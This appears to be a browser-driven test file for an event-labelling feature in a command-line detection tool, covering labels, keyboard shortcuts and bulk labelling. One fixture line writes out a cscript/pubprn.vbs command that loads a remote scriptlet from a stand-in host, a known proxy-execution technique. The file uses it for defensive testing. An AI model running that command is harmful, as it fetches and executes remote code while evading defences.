// Advice: labels, and what to do about a verdict.
import assert from 'node:assert/strict';
import { journey } from './journey.mjs';
import { events, headline, label, paste } from './states.mjs';

const attack = 'cscript.exe //b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct';
const audit = 'findstr /n /i "script:" C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs';
const row = (page, text) => events(page).getByRole('row').filter({ hasText: text }).first();
const labelled = (page, name) => page.getByRole('group', { name: 'Show labelled events' }).getByRole('button', { name });

journey('labels say where verdicts are not what they should be, and survive edits and a reload', async (page) => {
  await paste(page, `${attack}\n${audit}\nipconfig /all\n`);
  await headline(page, '2 of 3 events match');
  await label(page, '127.0.0.1', 'malicious');
  await label(page, 'findstr', 'benign');
  await row(page, 'findstr').getByText('false alarm').waitFor();
  await labelled(page, '1 malicious').waitFor();
  await labelled(page, '1 unexpected').waitFor();
  await paste(page, `hostname\nwhoami /all\n${attack}\n${audit}\n`);
  await headline(page, '2 of 4 events match');
  await row(page, 'findstr').getByText('false alarm').waitFor();
  await page.reload();
  await row(page, '127.0.0.1').getByRole('button', { name: 'Line 3 is malicious', pressed: true }).waitFor();
  await labelled(page, '1 unexpected').click();
  await page.waitForFunction(() => document.querySelectorAll('.row').length === 1);
  await row(page, 'findstr').waitFor();
});

journey('M and B label the selected event, and the menu labels all shown', async (page) => {
  await paste(page, `${attack}\n${audit}\nipconfig /all\n`);
  await events(page).focus();
  await page.keyboard.press('Home');
  await page.keyboard.press('m');
  await row(page, '127.0.0.1').getByRole('button', { name: 'malicious', pressed: true }).waitFor();
  await page.keyboard.press('m');
  await row(page, '127.0.0.1').getByRole('button', { name: 'malicious', pressed: false }).waitFor();
  await page.getByLabel('Find events by text').fill('pubprn');
  const menu = page.getByLabel('Label all shown');
  await menu.selectOption('The 2 shown: benign');
  await labelled(page, '2 benign').waitFor();
  assert.equal(await menu.inputValue(), 'Label all…');
  await menu.selectOption('Clear all labels');
  await page.getByText('Label events (M, B)').waitFor();
  await page.getByRole('button', { name: 'Undo' }).click();
  await labelled(page, '2 benign').waitFor();
});
